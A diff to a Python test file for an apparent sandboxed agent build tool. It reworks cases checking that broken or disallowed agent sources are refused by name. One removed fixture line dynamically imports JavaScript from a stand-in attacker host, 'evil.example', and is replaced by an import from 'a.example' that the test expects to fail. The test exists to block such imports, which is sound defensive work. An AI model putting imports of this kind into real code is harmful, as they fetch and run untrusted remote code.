@@ -18,7 +18,8 @@ SOURCES = {
     "agent.ts": 'import { greet } from "./lib/greet.ts";\n'
     "interface Context { agent: string }\n"
     "export default { fetch(request: Request, ctx: Context): Response { return new Response(greet(ctx.agent)); } };\n",
-    "lib/greet.ts": "export const greet = (name: string): string => `hello ${name}`;\nexport const unused = 'nobody asks';\n",
+    "lib/greet.ts": "export const greet = (name: string): string => `hello ${name}`;\n"
+    "export const unused = 'nobody asks';\n",
     "cloister.json": '{"egress": ["api.example"], "limits": {"wall_s": 5}}',
 }
 
@@ -73,10 +74,11 @@ BROKEN: dict[str, tuple[str, dict[str, str]]] = {
     "a syntax error": ("build.failed", {"agent.ts": "export default {"}),
     "a file that is missing": ("build.failed", {"agent.ts": 'import "./none.ts"; export default 1;'}),
     "a package without a deno.json": ("build.failed", {"agent.ts": 'import x from "nowhere"; export default x;'}),
-    "an import that stays": (
-        "build.imports",
-        {"agent.ts": 'export default async () => await import("https://evil.example/x.js");'},
+    "an import from another host": (
+        "build.failed",
+        {"agent.ts": 'export default () => import("https://a.example/x.js");'},
     ),
+    "an import that stays": ("build.imports", {"agent.ts": 'import x from "bun:test"; export default x;'}),
     "a manifest that is no JSON": ("build.manifest", {"agent.ts": "export default 1;", "cloister.json": "{"}),
     "a manifest too large": ("build.manifest", {"agent.ts": "export default 1;", "cloister.json": " " * 70_000}),
     "a manifest with an unknown field": (
@@ -92,7 +94,7 @@ async def test_what_cannot_be_built_is_refused_by_name(tmp_path: Path, sentence:
     code, files = BROKEN[sentence]
     with pytest.raises(CloisterError) as caught:
         await build_in(tmp_path, files)
-    assert caught.value.code in (code, "build.failed" if code == "build.imports" else code)
+    assert caught.value.code == code
     assert not (tmp_path / "out").exists()
     assert "Stack backtrace" not in caught.value.found
 
